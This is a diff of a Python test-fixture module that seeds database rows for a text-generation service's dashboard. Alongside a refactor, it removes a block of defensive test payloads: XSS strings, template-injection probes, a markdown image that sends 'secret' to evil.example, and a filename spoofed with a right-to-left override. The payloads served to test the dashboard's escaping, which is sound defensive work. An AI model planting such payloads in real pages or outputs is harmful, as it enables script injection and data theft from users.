@@ -1,6 +1,6 @@
 """Rows of a service that has worked for a while, for tests and pictures of the dashboard."""
 
-from dataclasses import dataclass, field, replace
+from dataclasses import dataclass
 from hashlib import sha256
 from typing import Any
 
@@ -49,7 +49,6 @@ class World:
     seed: int
     generation: int
     export: int
-    extra: dict[str, int] = field(default_factory=dict)
 
 
 def add_corpus(
@@ -201,27 +200,7 @@ def build(session: Session) -> World:
     )
     second = add_settled_round(session, running, 2, accepted=71, pool=145, why="short: grade_p90")
     third = rounds.add(session, running, 3, plan=plan(3))
-    parent = api_rows.add_generation(
-        session, running, first, seeds[0], body=LESSON.replace("twice as large", "30 times as large"), ordinal=0,
-        verdict="dropped", gate="fidelity", reason="unsupported", detail="not in the seed: 30", repairable=True,
-    )  # fmt: skip
-    kept = api_rows.add_generation(
-        session, running, second, seeds[0], body=LESSON, ordinal=0, parent_id=parent, edu_score=3.4, ease=78.2,
-        grade=5.1, tokens=118, micro=420, prompt_tokens=312, completion_tokens=198,
-        arm="lesson/a beginner programmer/short sentences",
-        draw={"arm": "lesson/a beginner programmer/short sentences", "why": "repair", "rng_seed": 1234,
-              "fell_short": ["unsupported: not in the seed: 30"]},
-        params={"temperature": 0.7, "max_tokens": 700},
-        scores={"repeated_share": 0.02, "words": 118.0, "cyclomatic": 1.0, "fidelity_precision": 1.0,
-                "fidelity_recall": 0.86, "ease": 78.2, "grade": 5.1, "list_coverage": 0.97, "edu_score": 3.05,
-                "edu_raw": 3.4, "uncertain": 0.0},
-    )  # fmt: skip
-    for place in range(1, 45):
-        api_rows.add_generation(
-            session, running, third, seeds[place], body=f"Lesson {place}. {LESSON}", ordinal=place,
-            verdict="dropped" if place % 4 == 0 else "pending", gate="simplicity" if place % 4 == 0 else None,
-            reason="too_hard" if place % 4 == 0 else None,
-        )  # fmt: skip
+    kept = _texts(session, running, seeds, [first, second, third])
     session.execute(
         text("""
         INSERT INTO units (kind, job_id, round_id, ordinal)
@@ -240,7 +219,33 @@ def build(session: Session) -> World:
     finished = _finished(session, corpus)
     export = exports.add(session, finished, options={"format": "jsonl", "real_share": 0.5})
     exports.finish(session, export, manifest=manifest())
-    return World(corpus, running, third, finished, seeds[0], kept, export, {"parent": parent})
+    return World(corpus, running, third, finished, seeds[0], kept, export)
+
+
+def _texts(session: Session, job: int, seeds: list[int], round_ids: list[int]) -> int:
+    """A dropped text, its repair that was kept, and the open round's; the id of the repair."""
+    parent = api_rows.add_generation(
+        session, job, round_ids[0], seeds[0], body=LESSON.replace("twice as large", "30 times as large"), ordinal=0,
+        verdict="dropped", gate="fidelity", reason="unsupported", detail="not in the seed: 30", repairable=True,
+    )  # fmt: skip
+    kept = api_rows.add_generation(
+        session, job, round_ids[1], seeds[0], body=LESSON, ordinal=0, parent_id=parent, edu_score=3.4, ease=78.2,
+        grade=5.1, tokens=118, micro=420, prompt_tokens=312, completion_tokens=198,
+        arm="lesson/a beginner programmer/short sentences",
+        draw={"arm": "lesson/a beginner programmer/short sentences", "why": "repair", "rng_seed": 1234,
+              "fell_short": ["unsupported: not in the seed: 30"]},
+        params={"temperature": 0.7, "max_tokens": 700},
+        scores={"repeated_share": 0.02, "words": 118.0, "cyclomatic": 1.0, "fidelity_precision": 1.0,
+                "fidelity_recall": 0.86, "ease": 78.2, "grade": 5.1, "list_coverage": 0.97, "edu_score": 3.05,
+                "edu_raw": 3.4, "uncertain": 0.0},
+    )  # fmt: skip
+    for place in range(1, 45):
+        api_rows.add_generation(
+            session, job, round_ids[2], seeds[place], body=f"Lesson {place}. {LESSON}", ordinal=place,
+            verdict="dropped" if place % 4 == 0 else "pending", gate="simplicity" if place % 4 == 0 else None,
+            reason="too_hard" if place % 4 == 0 else None,
+        )  # fmt: skip
+    return kept
 
 
 def _finished(session: Session, corpus: int) -> int:
@@ -284,45 +289,6 @@ def manifest() -> dict[str, Any]:
     }
 
 
-HOSTILE = (
-    "<script>alert(1)</script><img src=x onerror=alert(2)>\n"
-    "</script><svg onload=alert(3)> {{7*7}} ${7*7} <a href='javascript:alert(4)'>x</a>\n"
-    '"\' onmouseover=alert(5) x="\n![x](https://evil.example/?q=secret)\n'
-    "admin\u202egpj.exe zero\u200bwidth tag\U000e0041\n"
-)
-"""Case 50 of `docs/reliability.md`, and hidden characters of case 10."""
-
-
-def build_hostile(session: Session) -> World:
-    """The same payloads wherever a person or a model can put text."""
-    name = HOSTILE.replace("\n", " ")
-    corpus, seeds = add_corpus(session, name[:200], [HOSTILE], [(name, 3, "bad_json", HOSTILE)])
-    query = text(
-        "UPDATE seeds SET external_id = CAST(:name AS text), licence = CAST(:name AS text), "
-        "details = jsonb_build_object('file', CAST(:name AS text), 'line', 1)"
-    )
-    session.execute(query, {"name": name})
-    job = add_job(session, corpus, model=name[:150], budget=Budget(calls=10))
-    jobs.change(session, job, only_in=("queued",), state="running", note=name)
-    round_id = add_settled_round(session, job, 1, accepted=1, pool=1, why=name)
-    session.execute(
-        text("UPDATE rounds SET plan = jsonb_set(plan, '{arms}', jsonb_build_object(CAST(:arm AS text), 3))"),
-        {"arm": f"{name}/{name}/{name}"},
-    )
-    parent = api_rows.add_generation(
-        session, job, round_id, seeds[0], body=HOSTILE, ordinal=0, verdict="dropped", gate="format", reason="preamble",
-        detail=name,
-    )  # fmt: skip
-    generation = api_rows.add_generation(
-        session, job, round_id, seeds[0], body=HOSTILE, ordinal=1, model=name, arm=f"{name}/{name}/{name}",
-        parent_id=parent, params={name: name}, draw={name: [name]}, scores={name: name}, finish_reason=name,
-    )  # fmt: skip
-    export = exports.add(session, job, options={"format": name})
-    files = [{**file, "name": name} for file in manifest()["files"]]
-    exports.finish(session, export, manifest={**manifest(), "files": files, "licences": {name: 3}, "model": name})
-    return World(corpus, job, round_id, job, seeds[0], generation, export)
-
-
 def add_done_calls(session: Session, world: World, *, count: int) -> None:
     """Let so many waiting calls of the running job end."""
     session.execute(
@@ -331,6 +297,4 @@ def add_done_calls(session: Session, world: World, *, count: int) -> None:
             SELECT id FROM units WHERE round_id = :round AND state = 'ready' ORDER BY id LIMIT :count)"""),
         {"round": world.open_round, "count": count},
     )
-    row = budgets.read(session, world.job)
-    row = replace(row, spent_calls=row.spent_calls + count)
-    spend(session, world.job, spent_calls=row.spent_calls)
+    spend(session, world.job, spent_calls=budgets.read(session, world.job).spent_calls + count)
